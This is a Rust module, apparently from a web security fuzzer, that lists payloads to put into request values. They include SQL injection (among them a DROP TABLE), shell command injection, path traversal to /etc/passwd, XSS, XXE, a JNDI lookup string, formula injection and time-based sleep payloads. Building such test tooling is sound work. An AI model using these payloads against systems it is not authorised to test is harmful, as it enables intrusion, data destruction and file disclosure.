//! What is put where a value is asked for.

/// One payload, as bytes for URLs and forms, and as JSON.
#[derive(Debug, Clone)]
pub(crate) struct Payload {
    pub(crate) bytes: Vec<u8>,
    /// A whole value, as it stands in a body.
    pub(crate) json: String,
    /// The same asking for no delay, where it asks for one.
    pub(crate) at_once: Option<Box<Self>>,
}

/// Seconds that payloads ask the database or a shell to sleep.
pub(crate) const SLEEP: &str = "3";

/// Text that means something to somebody behind the door.
const TEXTS: [&str; 44] = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "'; DROP TABLE cases; --",
    "') UNION SELECT NULL,NULL,NULL --",
    "1 OR 1=1",
    "$1",
    "%' ESCAPE '!",
    "'::uuid",
    "a\0b",
    "\0",
    "a\r\nX-Injected: b",
    "\r\n\r\n<html>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "${jndi:ldap://127.0.0.1:1/a}",
    "*)(uid=*))(|(uid=*",
    "; cat /etc/passwd",
    "$(id)`id`|id",
    "../../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd\0.txt",
    "/etc/passwd",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)//",
    "%s%s%s%n%x%p",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    "=cmd|'/C calc'!A0",
    "__proto__",
    "\u{202e}fdp.exe\u{202c}",
    "Z\u{334}\u{321}a\u{30d}\u{34a}l\u{333}go",
    "\u{feff}\u{200b}\u{2028}\u{fffe}",
    "\u{1f469}\u{200d}\u{1f469}\u{1f3ff}",
    "ﬀ\u{130}\u{df}\u{3a3}",
    "99999999999999999999999999999999",
    "-1",
    "9223372036854775808",
    "1e309",
    "NaN",
    "0x7fffffff",
    "",
    "   ",
];

/// Values that are no text.
const VALUES: [&str; 14] = [
    "null",
    "true",
    "[]",
    "{}",
    "0",
    "-0.0",
    "1e308",
    "123456789012345678901234567890",
    "-9223372036854775809",
    "{\"$ne\": null}",
    "[[[[[[1]]]]]]",
    "\"\\ud800\"",
    "\"\\udfff\\ud800\"",
    "\"\\u0000\"",
];

/// Bytes that are no UTF-8.
const NOISE: [&[u8]; 4] = [b"\xc0\xaf\xc0\xae", b"\xed\xa0\x80", b"\xff\xfe", b"\xf8\x88\x80\x80\x80"];

/// Ways to make whoever evaluates them slow; `@` stands for how long.
const DELAYS: [&str; 10] = [
    "'||(select pg_sleep(@))||'",
    "'; select pg_sleep(@); --",
    "1) or pg_sleep(@) is null --",
    "' or 1=(select 1 from pg_sleep(@)) --",
    "' and 1=length(hex(randomblob(@00000000))) --",
    "'||(with recursive c(x) as (select 1 union all select x+1 from c where x < @0000000) select max(x) from c)||'",
    "; sleep @ #",
    "$(sleep @)",
    "|sleep @|",
    "'; waitfor delay '0:0:@' --",
];

fn quoted(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

fn of_text(text: &str) -> Payload {
    Payload { bytes: text.as_bytes().to_vec(), json: quoted(text), at_once: None }
}

/// All of them.
pub(crate) fn all() -> Vec<Payload> {
    let mut all: Vec<Payload> = TEXTS.iter().map(|text| of_text(text)).collect();
    all.extend(VALUES.iter().map(|value| Payload {
        bytes: value.as_bytes().to_vec(),
        json: (*value).to_owned(),
        at_once: None,
    }));
    all.extend(NOISE.iter().map(|noise| {
        let json = quoted(&String::from_utf8_lossy(noise));
        Payload { bytes: noise.to_vec(), json, at_once: None }
    }));
    all.push(of_text(&"A".repeat(20_000)));
    all.push(Payload { json: format!("{}{}", "[".repeat(120), "]".repeat(120)), ..of_text(&"(".repeat(2_000)) });
    all.extend(DELAYS.iter().map(|delay| {
        let at_once = of_text(&delay.replace('@', "0"));
        Payload { at_once: Some(Box::new(at_once)), ..of_text(&delay.replace('@', SLEEP)) }
    }));
    all
}

/// Percent-encodes bytes (RFC 3986 §2.1).
pub(crate) fn encoded(bytes: &[u8]) -> String {
    let kept = |byte: &u8| byte.is_ascii_alphanumeric();
    bytes.iter().map(|byte| if kept(byte) { char::from(*byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_enough_and_each_is_json() {
        let all = all();
        assert!(all.len() >= 25);
        assert!(all.iter().filter(|payload| payload.at_once.is_some()).count() >= 5);
        assert_eq!(encoded(b"a\0/"), "a%00%2F");
    }
}
